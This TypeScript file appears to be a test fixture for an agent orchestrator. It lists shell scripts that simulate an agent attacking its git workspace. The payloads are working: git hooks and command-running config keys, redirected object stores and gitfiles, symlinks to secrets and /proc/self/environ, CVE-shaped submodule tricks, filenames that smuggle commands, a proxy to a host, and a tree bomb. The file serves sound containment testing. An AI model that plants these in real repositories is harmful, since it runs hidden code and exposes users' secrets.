/**
 * Attacks of an agent on its workspace, as shell scripts that it runs in its worktree. Each plants `$E/NAME`, a program
 * that notes who ran it, and for whom; `$R` is the run's own repository, `$P` a folder that is nobody's business.
 */
export interface Attack {
  name: string;
  plant: string;
  /** Must act when the agent itself uses git after planting: without this the attack would prove nothing. */
  acts?: true;
  /** The agent's own git would choke on it: it plants and ends. */
  alone?: true;
}

const HOOKS = [
  ...['pre-receive', 'update', 'post-receive', 'post-update', 'reference-transaction', 'push-to-checkout'],
  ...['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-checkout', 'post-merge'],
  ...['pre-push', 'pre-auto-gc', 'post-rewrite', 'post-index-change', 'proc-receive', 'pre-applypatch'],
].join(' ');

const FOREIGN = `
  evil() {
    mkdir -p $1/objects/info $1/refs/heads $1/hooks $1/info
    echo 'ref: refs/heads/main' > $1/HEAD
    git -C . for-each-ref --format='%(objectname) %(refname)' > $1/packed-refs
    cp $R/objects/info/alternates $1/objects/info/
    for h in ${HOOKS}; do cp $E/$2 $1/hooks/$h; done
    printf '[core]\\nbare = true\\nfsmonitor = %s\\nsshCommand = %s\\n[diff]\\nexternal = %s\\n' $E/$2 $E/$2 $E/$2 > $1/config
  }`;

const set = (name: string, ...keys: string[]) =>
  keys.map(key => `git config --file $R/config --add '${key}' $E/${name}`).join('\n');

/** Attacks that one run can make side by side, by the name of its agent. */
export const ATTACKS: Record<string, Attack[]> = {
  hooks: [
    { name: 'hooks', acts: true, plant: `for h in ${HOOKS}; do cp $E/hooks $R/hooks/$h; done` },
    { name: 'fsmonitor', acts: true, plant: set('fsmonitor', 'core.fsmonitor') },
    { name: 'alias', plant: set('alias', 'alias.st', 'alias.push-it').replaceAll(' $E', ' !$E') },
    {
      name: 'pager',
      plant: set('pager', 'core.pager', 'pager.status', 'pager.diff', 'interactive.diffFilter'),
    },
    { name: 'editor', plant: set('editor', 'core.editor', 'sequence.editor') },
    { name: 'ssh', plant: set('ssh', 'core.sshCommand', 'core.gitProxy') },
    { name: 'askpass', plant: set('askpass', 'core.askPass') },
    {
      name: 'credential',
      plant: set('credential', 'credential.helper', 'credential.http://127.0.0.1.helper'),
    },
    { name: 'gpg', plant: set('gpg', 'gpg.program', 'gpg.ssh.program', 'gpg.x509.program') },
    {
      name: 'servers',
      plant: set(
        'servers',
        'uploadpack.packObjectsHook',
        'remote.origin.uploadpack',
        'remote.origin.receivepack',
      ),
    },
    { name: 'trailers', plant: set('trailers', 'trailer.evil.command', 'trailer.evil.cmd') },
    {
      name: 'maintenance',
      plant: `git config --file $R/config gc.auto 1; ${set('maintenance', 'gc.recentObjectsHook')}`,
    },
  ],
  'hooks-path': [
    {
      name: 'hooksPath',
      acts: true,
      plant: `mkdir ../evil; for h in ${HOOKS}; do cp $E/hooksPath ../evil/$h; done
        git config core.hooksPath "$(cd ../evil && pwd)"`,
    },
  ],
  filters: [
    {
      name: 'filter',
      acts: true,
      plant: `${set('filter', 'filter.evil.clean', 'filter.evil.smudge')}
        echo '* filter=evil diff=evil merge=evil' | tee $R/info/attributes > .gitattributes`,
    },
    {
      name: 'process',
      acts: true,
      plant: `${set('process', 'filter.p.process')}; echo '*.p filter=p' >> $R/info/attributes; echo > a.p`,
    },
    { name: 'textconv', plant: set('textconv', 'diff.evil.textconv') },
    { name: 'diff', acts: true, plant: set('diff', 'diff.evil.command', 'diff.external') },
    { name: 'merge', acts: true, plant: set('merge', 'merge.evil.driver', 'merge.default') },
    { name: 'difftool', plant: set('difftool', 'difftool.x.cmd', 'mergetool.x.cmd', 'diff.tool') },
    {
      name: 'lfs',
      acts: true,
      plant: `${set('lfs', 'filter.lfs.process', 'filter.lfs.clean', 'filter.lfs.smudge', 'lfs.customtransfer.x.path')}
        printf '*.bin filter=lfs diff=lfs merge=lfs -text\\n' | tee -a $R/info/attributes >> .gitattributes
        printf '[lfs]\\nurl = %s/lfs\\nstandalonetransferagent = x\\n' $HOST_URL > .lfsconfig
        printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 1\\n' 1 > a.bin`,
    },
    {
      name: 'attributesFile',
      plant: `echo '* filter=evil' > ../at; git config core.attributesFile "$(cd .. && pwd)/at"`,
    },
  ],
  includes: [
    {
      name: 'include',
      acts: true,
      plant: `printf '[core]\\nfsmonitor = %s\\n' $E/include > ../included; git config include.path ../included`,
    },
    {
      name: 'includeIf',
      plant: `printf '[core]\\nsshCommand = %s\\n' $E/includeIf > ../conditional
        git config 'includeIf.gitdir:/**.path' "$(cd .. && pwd)/conditional"`,
    },
    {
      name: 'insteadOf',
      plant: `git config protocol.ext.allow always; git config protocol.allow always
        git config --add 'url.ext::$E/insteadOf %S.insteadOf' http://; git config --add url.$HOST_URL/.pushInsteadOf http://`,
    },
    {
      name: 'proxy',
      plant: `git config http.proxy $HOST_URL; git config remote.origin.proxy $HOST_URL; git config http.sslVerify false`,
    },
    {
      name: 'remote',
      plant: `git config remote.origin.vcs evil; git config remote.origin.url $HOST_URL/x.git; git config remote.pushDefault evil`,
    },
    {
      name: 'extraHeader',
      plant: `git config http.extraHeader 'X-Evil: 1'; git config http.cookieFile $P/secret; git config http.saveCookies true`,
    },
  ],
  'worktree-config': [
    {
      name: 'worktreeConfig',
      plant: `git config extensions.worktreeConfig true; git config --worktree core.editor $E/worktreeConfig`,
    },
  ],
  alternates: [
    {
      name: 'alternates',
      plant: `${FOREIGN}; evil $HOME/evil-a.git alternates
        printf '%s\\n' $HOME/evil-a.git/objects $(cat $R/objects/info/alternates) /proc/self/cwd ../../../../.. > ../alt
        mv ../alt $R/objects/info/alternates`,
    },
    {
      name: 'alternates by link',
      plant: `rm -rf $R/objects/pack; ln -s /proc/self/fd $R/objects/pack; ln -s $P $R/objects/ab`,
    },
    { name: 'grafts', plant: `git rev-parse HEAD > $R/info/grafts; git rev-parse HEAD > $R/shallow` },
  ],
  commondir: [
    {
      name: 'commondir',
      plant: `${FOREIGN}; evil $HOME/evil-c.git commondir; echo $HOME/evil-c.git > $R/worktrees/tree/commondir`,
    },
  ],
  gitfile: [
    {
      name: 'gitfile',
      plant: `${FOREIGN}; evil $HOME/evil-g.git gitfile; echo "gitdir: $HOME/evil-g.git" > .git`,
    },
    { name: 'gitdir', plant: `echo $P > $R/worktrees/tree/gitdir` },
  ],
  refs: [
    { name: 'HEAD', plant: `ln -sf $P/secret $R/HEAD; ln -sf $P/secret $R/worktrees/tree/ORIG_HEAD` },
    {
      name: 'refs',
      plant: `rm -rf $R/refs/heads; ln -s $P $R/refs/heads; rm -f $R/packed-refs; ln -s $P/secret $R/packed-refs`,
    },
  ],
  'work-tree-link': [{ name: 'tree is a link', plant: `cd ..; mv tree moved; ln -s $P tree` }],
  'work-tree-file': [{ name: 'tree is a file', plant: `cd ..; rm -rf tree; echo > tree` }],
  'work-tree-fifo': [{ name: 'tree is a pipe', plant: `cd ..; rm -rf tree; mkfifo tree` }],
  links: [
    {
      name: 'links',
      plant: `ln -s $P/secret CLAUDE.md; ln -s $P/secret package-lock.json; ln -s $P .github; ln -s $P conf; ln -s $P/secret .gitmodules
        ln -s / root; ln -s /proc/self/environ environ; ln -s loop loop; git add -A; git commit -qm Links`,
    },
  ],
  submodules: [
    {
      name: 'submodule',
      plant: `printf '[submodule "s"]\\n\\tpath = s\\n\\turl = %s/s.git\\n\\tupdate = !%s\\n' $HOST_URL $E/submodule > .gitmodules
        git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s; git add .gitmodules; git commit -qm Submodule`,
    },
    {
      // The shape of CVE-2025-48384: git wrote the path without its carriage return into the module's settings.
      name: 'submodule with a carriage return',
      plant: `printf '[submodule "r"]\\n\\tpath = "r\\r"\\n\\turl = ext::%s\\n' $E/submodule >> .gitmodules; ln -s $R/hooks "$(printf 'r\\r')"
        git add -A; git commit -qm Return`,
    },
    {
      // The shape of CVE-2024-32002: on a disk that knows no case the link takes the module's place.
      name: 'submodule under a link',
      plant: `printf '[submodule "x/y"]\\n\\tpath = A/modules/x\\n\\turl = ../shop.git\\n' >> .gitmodules; ln -s .git a
        git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),A/modules/x; git add .gitmodules a; git commit -qm Case`,
    },
  ],
  names: [
    {
      name: 'names',
      plant: `mkdir -p ./--upload-pack=x; echo > ./--upload-pack=x/-rf; echo > ./-n; echo > "$(printf 'new\\nline')"
        echo > "$(printf 'esc\\033]0;x\\007')"; echo > "$(printf 'bad\\377\\376')"; echo > "$(printf '\\342\\200\\256cod.exe')"
        echo > "$(printf '%0250d' 1)"; echo > '$(touch pwned)'; echo > ';id'; echo > '*'; git add -A; git commit -qm Names`,
    },
  ],
  specials: [
    {
      name: 'specials',
      plant: `mkfifo pipe; mknod null c 1 3; truncate -s 1T huge; ln $P/linked hard; mkdir -p locked/in; echo > locked/in/x
        chmod 000 locked/in; chmod 500 locked
        perl -e 'use IO::Socket::UNIX; IO::Socket::UNIX->new(Local => "sock", Listen => 1); for (1..1000) { mkdir "deep"; chdir "deep" }'`,
      alone: true,
    },
  ],
  log: [
    {
      name: 'log is a pipe',
      plant: `rm $HOME/logs/$ORCH_RUN.log; mkfifo $HOME/logs/$ORCH_RUN.log`,
      alone: true,
    },
  ],
  bomb: [
    {
      name: 'tree bomb',
      plant: `t=$(printf '100644 blob %s\\tf\\n' $(echo x | git hash-object -w --stdin) | git mktree)
        for d in 1 2 3 4 5 6 7 8; do
          t=$(for n in 0 1 2 3 4 5 6 7 8 9; do printf '040000 tree %s\\t%s\\n' $t $n; done | git mktree)
        done
        git push origin $(git commit-tree -p HEAD -m Bomb $t):refs/heads/$(git branch --show-current)`,
      alone: true,
    },
  ],
};
